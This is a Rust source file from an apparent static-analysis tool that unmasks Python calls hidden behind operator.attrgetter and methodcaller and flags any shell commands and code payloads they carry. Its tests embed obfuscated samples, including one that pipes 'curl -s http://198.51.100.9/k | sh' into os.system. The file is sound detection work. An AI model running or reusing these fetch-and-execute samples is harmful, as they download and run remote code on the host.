//! The standard library's function makers that take a member's name as a string: `operator.attrgetter(
//! "system")(os)` is `os.system`, and `operator.methodcaller("system", cmd)(os)` calls `os.system(cmd)`.
//! Either may be bound to a name first (`run = operator.methodcaller("popen", cmd)` … `run(os)`): a name
//! bound once, to such a call, is read where it is applied.

use super::super::limits::MAX_CALL_BYTES;
use super::super::values::Value;
use super::super::{evaluates_code, runs_code, Rendition};
use super::Walker;
use crate::fields::FieldChild;
use crate::node_kind::NodeKind;
use tree_sitter::Node;

/// Calls that hand a shell one command line (as in `python_render.rs`).
const SHELL_LINE: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
];
/// Arguments a method caller may bind.
const MAX_BOUND_ARGUMENTS: usize = 8;

#[derive(Clone, Copy, PartialEq, Eq)]
enum Maker {
    Attribute,
    Method,
}

impl<'t> Walker<'t, '_> {
    /// The `attrgetter`/`methodcaller` call a callee is (written in place, or bound once to its name).
    fn made_by(&mut self, function: Node<'t>, depth: usize) -> Option<(Maker, Node<'t>)> {
        if !self.names_getters {
            return None;
        }
        let maker = match function.kind_name() {
            "call" => function,
            "identifier" => self.aliases.bound_call(self.src(function))?,
            _ => return None,
        };
        let Some(Value::Name { path, .. }) = self.eval(maker.field_child("function")?, depth + 1)
        else {
            return None;
        };
        let kind = match path.as_ref() {
            "operator.attrgetter" => Maker::Attribute,
            "operator.methodcaller" => Maker::Method,
            _ => return None,
        };
        Some((kind, maker))
    }

    /// The member name a maker is given and the object it is applied to, as a dotted path.
    fn applied_member(
        &mut self,
        maker: Node<'t>,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<(String, bool)> {
        let passed = crate::native::evaluate::named_items(arguments);
        let [object] = passed.as_slice() else {
            return None;
        };
        let name_node = maker.field_child("arguments")?.named_child(0)?;
        let name = self.eval(name_node, depth + 1)?;
        let name = name.as_str()?;
        let is_name = !name.is_empty()
            && name.len() <= 64
            && name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.');
        if !is_name {
            return None;
        }
        let computed = !self.written_literally(name_node);
        match self.eval(*object, depth + 1)? {
            Value::Namespace => Some((name.to_string(), computed)),
            Value::Name { path, computed: c } => Some((format!("{path}.{name}"), computed || c)),
            _ => None,
        }
    }

    /// `operator.attrgetter("system")(os)`: the function `os.system`.
    pub(super) fn applied_attrgetter(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        let (Maker::Attribute, maker) = self.made_by(function, depth)? else {
            return None;
        };
        let (path, _) = self.applied_member(maker, arguments, depth)?;
        Some(Value::name(path, true))
    }

    /// `operator.methodcaller("system", cmd)(os)` is written as `os.system(cmd)` (and its command line as
    /// a shell payload, its code as a payload); returns whether the call was one.
    pub(super) fn applied_methodcaller(&mut self, node: Node<'t>) -> bool {
        if !self.names_getters {
            return false;
        }
        let (Some(function), Some(arguments)) =
            (node.field_child("function"), node.field_child("arguments"))
        else {
            return false;
        };
        if !matches!(function.kind_name(), "identifier" | "call") {
            return false;
        }
        let Some((Maker::Method, maker)) = self.made_by(function, 0) else {
            return false;
        };
        let Some((target, _)) = self.applied_member(maker, arguments, 0) else {
            return false;
        };
        let Some(bound) = maker.field_child("arguments") else {
            return false;
        };
        let rest: Vec<Node<'t>> = crate::native::evaluate::named_items(bound)
            .into_iter()
            .skip(1)
            .collect();
        if rest.len() > MAX_BOUND_ARGUMENTS {
            return false;
        }
        let mut parts = Vec::with_capacity(rest.len());
        for arg in &rest {
            let part = match (
                arg.kind_name(),
                arg.field_child("name"),
                arg.field_child("value"),
            ) {
                ("keyword_argument", Some(name), Some(value)) => {
                    format!("{}={}", self.src(name), self.render(value, 1).text)
                }
                _ => self.render(*arg, 1).text,
            };
            parts.push(part);
        }
        let code = format!("{target}({})", parts.join(", "));
        if code.len() > MAX_CALL_BYTES {
            return false;
        }
        let (start, end) = (node.start_byte(), node.end_byte());
        let first = rest
            .first()
            .filter(|a| a.kind_name() != "keyword_argument")
            .and_then(|a| self.eval(*a, 0));
        let hidden_target = runs_code(&target).then(|| target.clone());
        self.out.push(Rendition {
            hidden_target,
            ..Rendition::call(start, end, code)
        });
        match first {
            Some(Value::Str(line)) if SHELL_LINE.contains(&target.as_str()) => {
                self.out.push(Rendition::shell_command(start, end, &line));
            }
            Some(Value::Str(code)) if evaluates_code(&target, true) => {
                self.out
                    .push(Rendition::payload(start, end, code.to_string()));
            }
            _ => {}
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use crate::native::evaluate::tests::python;

    #[test]
    fn a_method_caller_applied_to_a_module_calls_that_member() {
        let found = python(concat!(
            "import operator, os\n",
            "go = operator.methodcaller('sys' + 'tem', 'curl -s http://198.51.100.9/k | sh')\n",
            "go(os)\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r == "os.system('curl -s http://198.51.100.9/k | sh')"),
            "{found:?}"
        );
        assert!(
            found
                .iter()
                .any(|r| r == "curl -s http://198.51.100.9/k | sh\n"),
            "{found:?}"
        );
    }

    #[test]
    fn an_attribute_getter_applied_to_a_module_is_that_function() {
        let found = python(concat!(
            "from operator import attrgetter\n",
            "import subprocess\n",
            "attrgetter('check_output')(subprocess)('curl -s http://198.51.100.9/k | sh', shell=True)\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.starts_with("subprocess.check_output(")),
            "{found:?}"
        );
    }

    #[test]
    fn method_callers_on_data_rebound_or_of_other_makers_stay_unknown() {
        for text in [
            // A method of a string: no module member.
            "import operator\nup = operator.methodcaller('upper')\nprint(up('abc'))\n",
            // Rebound: which one runs depends on order.
            "import operator, os\ngo = operator.methodcaller('system', 'id -a')\ngo = str\ngo(os)\n",
            // Not a getter at all.
            "import functools, os\ngo = functools.lru_cache(maxsize=2)\ngo(os)\n",
        ] {
            let found = python(text);
            assert!(
                !found.iter().any(|r| r.contains("os.system")),
                "{text}: {found:?}"
            );
        }
    }
}
